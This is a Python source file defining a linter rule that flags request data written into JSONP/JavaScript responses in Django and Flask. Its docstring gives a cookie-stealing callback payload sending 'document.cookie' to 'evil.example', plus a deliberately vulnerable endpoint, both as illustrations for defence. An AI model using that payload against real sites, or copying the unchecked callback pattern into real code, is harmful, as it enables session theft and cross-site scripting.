"""WW565: request data written as code into a response sent as JavaScript (JSONP)."""

from __future__ import annotations

from webwarden.findings import Confidence, Practice, Severity
from webwarden.rules.base import Framework, TaintRule


class RequestDataInScriptResponse(TaintRule):
    """## What it does
    Follows request data into the body of a response sent as JavaScript
    (`application/javascript`, `text/javascript`, `application/x-javascript`): Django's
    `HttpResponse(body, content_type=...)`, Flask's and Werkzeug's `Response(body,
    mimetype=...)`, `make_response`, `app.response_class`, also given that type after it
    is made (`response.headers["Content-Type"] = "text/javascript"`). The usual case is a JSONP
    answer whose callback name the request chooses (`f"{callback}({payload})"`). Data
    written as JSON (`json.dumps(value)`, `flask.json.dumps`) or escaped as a
    JavaScript string (`escapejs`) is data in the script, not code, and is not
    reported; nor is a value checked by a validation the analysis knows (a regular
    expression match of the whole name, a lookup in a list of the code's own, or a
    check of the project named for a JSONP callback or a JavaScript identifier that
    held in an `if`: `is_valid_jsonp_callback_value(callback)`, not
    `is_valid_callback_url(url)`).

    ## Why is this bad?
    A script response runs wherever a page loads it with `<script src>`. When the
    request chooses its text, the URL chooses the code: `?callback=fetch('//evil.example/'
    +document.cookie)//` is a script of this site, which a Content-Security-Policy
    allowing the site's own scripts (`script-src 'self'`) lets run, so any HTML
    injection elsewhere on the site becomes script execution again. An unchecked
    callback also lets other sites call functions of the site's pages with the page's
    privileges (Same-Origin Method Execution) and serve a file of the attacker's
    choosing from this domain (Reflected File Download). And JSONP itself hands the
    answer, fetched with the visitor's cookies, to whichever site loads it.

    ## Example
    ```python
    import json

    from flask import Flask, Response, request

    app = Flask(__name__)

    @app.route("/api/stats")
    def stats():
        payload = json.dumps({"visits": 42})
        callback = request.args.get("callback", "handle")
        return Response(f"{callback}({payload})", mimetype="application/javascript")
    ```

    ## Fix
    ```python
    import json
    import re

    from flask import Flask, Response, abort, request

    app = Flask(__name__)
    CALLBACK = re.compile(r"[A-Za-z_$][\\w$.]{0,63}")

    @app.route("/api/stats")
    def stats():
        payload = json.dumps({"visits": 42})
        callback = request.args.get("callback", "handle")
        if not CALLBACK.fullmatch(callback):
            abort(400)
        return Response(f"/**/{callback}({payload})", mimetype="application/javascript")
    ```
    Better, drop JSONP: answer JSON and let the pages that need it read it through
    CORS (`Access-Control-Allow-Origin` for the origins you trust). Keep
    `X-Content-Type-Options: nosniff` on, so no browser reads the answer as another type.

    ## Options
    Project sources, sanitisers and guards go in `[tool.webwarden.taint]` (see the README).

    ## References
    - [CWE-79: Cross-site Scripting](https://cwe.mitre.org/data/definitions/79.html)
    - [OWASP: Content Security Policy Cheat Sheet (JSONP bypasses)](https://cheatsheetseries.owasp.org/cheatsheets/Content_Security_Policy_Cheat_Sheet.html)
    - [Same Origin Method Execution (Ben Hayak)](https://www.someattack.com/Playground/About)
    """

    code = "WW565"
    name = "request-data-in-script-response"
    practice = Practice.XSS
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    cwe = 79
    message = "{source} is written as code into a JavaScript response by `{sink}`"
    fix = "check a JSONP callback against `[A-Za-z_$][\\w$.]*` and write data with `json.dumps`"
    frameworks = frozenset({Framework.DJANGO, Framework.FLASK})
